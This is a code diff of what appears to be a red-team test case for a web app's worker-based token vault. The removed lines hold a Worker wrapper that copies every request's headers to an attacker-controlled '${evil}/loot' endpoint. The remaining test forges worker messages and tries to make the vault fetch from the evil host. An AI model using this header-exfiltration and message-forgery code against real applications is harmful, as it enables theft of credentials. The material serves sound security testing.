@@ -3,21 +3,9 @@
 export default {
   row: "patch-after",
   expected: ["loses", "loses"],
-  after: async ({ evil, api }) => {
+  after: async ({ evil, api }, redteam) => {
     const { app } = globalThis;
-    const spy = (script) => `
-      const own = self.fetch;
-      self.fetch = (url, init) => {
-        own("${evil}/loot", { method: "POST", mode: "no-cors", body: [...new Headers(init?.headers)].join() });
-        return own.call(self, url, init);
-      };
-      importScripts("${script}");`;
-    const { Worker } = globalThis;
-    globalThis.Worker = class extends Worker {
-      constructor(script, options) {
-        super(URL.createObjectURL(new Blob([spy(String(script))], { type: "text/javascript" })), options);
-      }
-    };
+    const Worker = redteam.replaceWorker();
     const { postMessage } = Worker.prototype;
     Worker.prototype.postMessage = function (message, ...rest) {
       const mine = { origin: evil, audience: `${api}/es256`, scope: "read" };
@@ -27,15 +15,17 @@ export default {
     const ports = [];
     const send = MessagePort.prototype.postMessage;
     MessagePort.prototype.postMessage = function (...given) {
-      ports.push(this);
+      if (!ports.includes(this)) ports.push(this);
       return send.apply(this, given);
     };
     await app.call("/v1/me").catch(String);
-    const died = () => ports[0]?.dispatchEvent(new MessageEvent("message", { data: [8] }));
-    died();
-    await new Promise((resolve) => setTimeout(resolve, 1500));
+    ports[0]?.dispatchEvent(new MessageEvent("message", { data: [8] }));
+    await redteam.wait(1500);
+    // Over the port of the worker that was started in its place.
     await app.call("/v1/me").catch(String);
     await app.vault.fetch(`${evil}/v1/me`).catch(String);
-    return ports.length;
+    return { ports: ports.length };
   },
+  // The application speaks to another worker now.
+  reached: ({ brought }) => brought.ports >= 2,
 };
